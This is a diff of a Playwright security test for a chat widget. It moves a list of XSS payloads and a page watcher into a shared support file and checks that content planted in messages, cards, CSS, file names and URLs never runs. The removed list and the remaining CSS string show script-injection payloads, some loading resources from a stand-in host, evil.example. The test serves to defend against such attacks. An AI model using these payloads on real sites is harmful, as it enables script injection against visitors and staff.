@@ -1,8 +1,8 @@
 // Whatever somebody writes, wherever it can be written, stays text: nothing of it runs and nothing
 // leaves, neither in the agents' dashboard nor in the visitor's chat.
-import type { Page } from "@playwright/test";
 import { expect, openChat, say, test } from "../support/browser.ts";
 import { changeInbox, withOptions } from "../support/host-page.ts";
+import { ALL_PAYLOADS, EVIL, PAYLOADS, watchPage } from "../support/payloads.ts";
 import {
   goOnline,
   newestConversation,
@@ -11,58 +11,23 @@ import {
   write,
 } from "../support/widget-chat.ts";
 
-const EVIL = "evil.example";
-
-/** Each would call `pwned()` or fetch from the attacker's server where it is taken for markup. */
-const PAYLOADS = [
-  `<img src=x onerror=pwned()>`,
-  `<svg onload=pwned()>`,
-  `<script>pwned()</script>`,
-  `"><script src=https://${EVIL}/x.js></script>`,
-  `'-pwned()-'`,
-  `javascript:pwned()`,
-  `[link](javascript:pwned())`,
-  `<iframe srcdoc="<script>parent.pwned()</script>">`,
-  `<a href="data:text/html,<script>pwned()</script>">x</a>`,
-  `</script><script>pwned()</script>`,
-  `<style>@import 'https://${EVIL}/x.css';</style>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
-  "{{constructor.constructor('pwned()')()}}",
-  `\u202e<b onmouseover=pwned()>txet\u202c`,
-];
-const ALL = PAYLOADS.join(" ");
-
-/** Notes what ran and what left, in every frame of the page. */
-async function watch(page: Page): Promise<() => string[]> {
-  const found: string[] = [];
-  await page.exposeFunction("pwned", () => found.push("something ran"));
-  page.on("dialog", (dialog) => {
-    found.push(`dialog: ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on("request", (request) => {
-    if (new URL(request.url()).hostname === EVIL) found.push(`request: ${request.url()}`);
-  });
-  return () => found;
-}
-
 test("names, messages, files, cards, attributes, titles and CSS stay what they are", async ({
   agent,
   visitor,
   tenant,
   hostSite,
 }) => {
-  const foundByAgent = await watch(agent);
-  const foundByVisitor = await watch(visitor);
+  const foundByAgent = await watchPage(agent);
+  const foundByVisitor = await watchPage(visitor);
   await goOnline(tenant);
   await changeInbox(tenant, {
     messages: {
-      greeting: ALL.slice(0, 200),
-      introduction: ALL.slice(0, 500),
-      notice: ALL.slice(0, 300),
+      greeting: ALL_PAYLOADS.slice(0, 200),
+      introduction: ALL_PAYLOADS.slice(0, 500),
+      notice: ALL_PAYLOADS.slice(0, 300),
     },
     appearance: {
-      cards: [{ type: "announcement", title: PAYLOADS[0], text: ALL.slice(0, 400) }],
+      cards: [{ type: "announcement", title: PAYLOADS[0], text: ALL_PAYLOADS.slice(0, 400) }],
       customCss: `@import "https://${EVIL}/a.css"; .linkdesk-launcher { background: url(http://${EVIL}/b.png) } } </style><script>pwned()</script>`,
     },
   });
@@ -83,7 +48,7 @@ test("names, messages, files, cards, attributes, titles and CSS stay what they a
       "",
       `?${encodeURIComponent("<img src=x onerror=pwned()>")}#"><svg onload=pwned()>`,
     );
-  }, ALL);
+  }, ALL_PAYLOADS);
   const chat = await openWidget(visitor);
   await chat.getByRole("button", { name: "Start a conversation" }).click();
   for (const payload of PAYLOADS) await write(chat, payload);
@@ -91,7 +56,7 @@ test("names, messages, files, cards, attributes, titles and CSS stay what they a
     {
       name: `${PAYLOADS[0]?.replaceAll("/", "_")}.txt`,
       mimeType: "text/html",
-      buffer: Buffer.from(ALL),
+      buffer: Buffer.from(ALL_PAYLOADS),
     },
     {
       name: "page.html",
@@ -113,7 +78,7 @@ test("names, messages, files, cards, attributes, titles and CSS stay what they a
     type: "card",
     card: {
       title: PAYLOADS[0] ?? "",
-      subtitle: ALL.slice(0, 300),
+      subtitle: ALL_PAYLOADS.slice(0, 300),
       buttons: [{ id: "x", label: (PAYLOADS[2] ?? "").slice(0, 60) }],
     },
   });
